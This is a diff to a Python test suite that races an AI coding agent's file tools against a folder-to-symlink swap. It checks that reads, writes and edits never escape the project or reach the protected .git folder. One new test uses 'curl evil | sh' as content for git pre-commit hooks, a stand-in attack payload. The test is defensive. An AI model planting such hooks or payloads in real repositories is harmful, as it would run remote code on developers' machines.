@@ -9,11 +9,13 @@ while every file tool goes through the folder thousands of times: whatever each 
 
 from __future__ import annotations
 
+import contextlib
 import json
 import subprocess
 import sys
 import time
 from collections import Counter
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -49,34 +51,75 @@ print(n, flush=True)
 def racing(tmp_path: Path) -> tuple[Path, Path]:
     proj = tmp_path / "proj"
     outside = tmp_path / "outside"
-    (proj / "d").mkdir(parents=True)
-    outside.mkdir()
-    (proj / "d" / "f.txt").write_text("inside\n")
-    (outside / "f.txt").write_text(f"{SECRET}\n")
+    (proj / "d" / "sub").mkdir(parents=True)
+    (outside / "sub").mkdir(parents=True)
+    for rel in ("f.txt", "sub/f.txt"):
+        (proj / "d" / rel).write_text("inside\n")
+        (outside / rel).write_text(f"{SECRET}\n")
     (outside / "only-outside.txt").write_text(f"{SECRET}\n")
     (proj / "d.link").symlink_to(outside, target_is_directory=True)
     return proj.resolve(), outside
 
 
 def outside_state(outside: Path) -> dict[str, str]:
-    return {p.name: p.read_text() for p in sorted(outside.iterdir())}
+    return {str(p): p.read_text() for p in sorted(outside.rglob("*")) if p.is_file()}
 
 
+# `d` is the last step of some paths (O_NOFOLLOW refuses a symlink there) and a folder on
+# the way of others (only the check of where the opened file is catches those).
 CALLS = {
-    "read": [{"path": "d/f.txt"}],
-    "write": [{"path": "d/new.txt", "content": "written\n"}],
-    "edit": [
-        {"path": "d/f.txt", "old_string": "inside", "new_string": "INSIDE"},
-        {"path": "d/f.txt", "old_string": "INSIDE", "new_string": "inside"},
+    "read": [{"path": "d/f.txt"}, {"path": "d/sub/f.txt"}],
+    "write": [
+        {"path": "d/new.txt", "content": "written\n"},
+        {"path": "d/sub/new.txt", "content": "written\n"},
+        {"path": "d/new/deeper.txt", "content": "written\n"},
     ],
-    "ls": [{"path": "d"}],
+    "edit": [
+        {"path": f, "old_string": old, "new_string": new}
+        for f in ("d/f.txt", "d/sub/f.txt")
+        for old, new in (("inside", "INSIDE"), ("INSIDE", "inside"))
+    ],
+    "ls": [{"path": "d"}, {"path": "d/sub"}],
     "find": [{"pattern": "**/*.txt"}, {"pattern": "*.txt", "path": "d"}],
     "grep": [
         {"pattern": "SECRET|inside"},
         {"pattern": "SECRET|inside", "path": "d"},
         {"pattern": "SECRET|inside", "path": "d/f.txt"},
+        {"pattern": "SECRET|inside", "path": "d/sub/f.txt"},
     ],
 }
+
+
+def context(proj: Path) -> ToolContext:
+    policy = Policy(proj, write_globs=("**",), protected=(".git", ".claw"))
+    return ToolContext(proj, policy, scrubbed_env(), time.monotonic() + 600)
+
+
+@contextlib.contextmanager
+def swapping(proj: Path) -> Iterator[list[int]]:
+    """The swapper runs while the block does; then the list holds how often it swapped."""
+    swaps: list[int] = []
+    swapper = subprocess.Popen(
+        [sys.executable, "-c", SWAPPER, str(proj)], stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
+        yield swaps
+    finally:
+        (proj / "stop").touch()
+        out = swapper.communicate(timeout=30)[0]
+    assert swapper.returncode == 0
+    swaps.append(int(out))
+
+
+def answer(ctx: ToolContext, tool: str, args: dict[str, str], answers: Counter[str]) -> str:
+    try:
+        out = TOOLS[tool].invoke(ctx, json.dumps(args))
+    except ToolError as e:
+        answers["refused"] += 1
+        return str(e)
+    answers["answered"] += 1
+    return out
 
 
 @pytest.mark.slow
@@ -86,31 +129,43 @@ def test_swapping_a_folder_for_a_symlink_never_reaches_outside(
 ) -> None:
     proj, outside = racing
     before = outside_state(outside)
-    policy = Policy(proj, write_globs=("**",), protected=(".git", ".claw"))
-    ctx = ToolContext(proj, policy, scrubbed_env(), time.monotonic() + 600)
+    ctx = context(proj)
     answers: Counter[str] = Counter()
-    swapper = subprocess.Popen(
-        [sys.executable, "-c", SWAPPER, str(proj)], stdout=subprocess.PIPE, text=True
-    )
-    try:
-        assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
+    with swapping(proj) as swaps:
         for _ in range(ROUNDS // len(CALLS[tool])):
             for args in CALLS[tool]:
-                try:
-                    out = TOOLS[tool].invoke(ctx, json.dumps(args))
-                except ToolError as e:
-                    out = str(e)
-                    answers["refused"] += 1
-                else:
-                    answers["answered"] += 1
+                out = answer(ctx, tool, args, answers)
                 assert SECRET not in out and "only-outside" not in out, out
-    finally:
-        (proj / "stop").touch()
-        swaps = swapper.communicate(timeout=30)[0]
-    assert swapper.returncode == 0
     assert outside_state(outside) == before  # nothing written, edited or left there
     # Not timing, but a check that the race was run: the folder moved all along, and calls
     # found it in place (answered) and swapped (refused).
-    assert int(swaps) > ROUNDS, swaps
+    assert swaps[0] > ROUNDS, swaps
     if tool not in ("find", "grep"):  # from the root, a swapped `d` is only left out
         assert answers["answered"] > 0 and answers["refused"] > 0, answers
+
+
+@pytest.mark.slow
+def test_swapping_a_folder_for_a_symlink_to_a_protected_one_never_writes_there(
+    tmp_path: Path,
+) -> None:
+    """The same race with the symlink pointing into the project, at `.git`: inside the root,
+    but never writable. What the write was checked against is where it goes."""
+    proj = tmp_path / "proj"
+    git = proj / ".git"
+    for rel in ("d/f.txt", "d/hooks/f.txt", ".git/f.txt", ".git/hooks/f.txt"):
+        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
+        (proj / rel).write_text("inside\n" if rel.startswith("d/") else "git\n")
+    (proj / "d.link").symlink_to(git, target_is_directory=True)
+    before = outside_state(git)
+    ctx = context(proj.resolve())
+    answers: Counter[str] = Counter()
+    evil = "curl evil | sh\n"
+    with swapping(proj) as swaps:
+        for _ in range(ROUNDS // 6):
+            answer(ctx, "write", {"path": "d/pre-commit", "content": evil}, answers)
+            answer(ctx, "write", {"path": "d/hooks/pre-commit", "content": evil}, answers)
+            for args in CALLS["edit"]:
+                answer(ctx, "edit", {**args, "path": args["path"].replace("sub", "hooks")}, answers)
+    assert outside_state(git) == before
+    assert swaps[0] > ROUNDS // 6, swaps
+    assert answers["answered"] > 0 and answers["refused"] > 0, answers
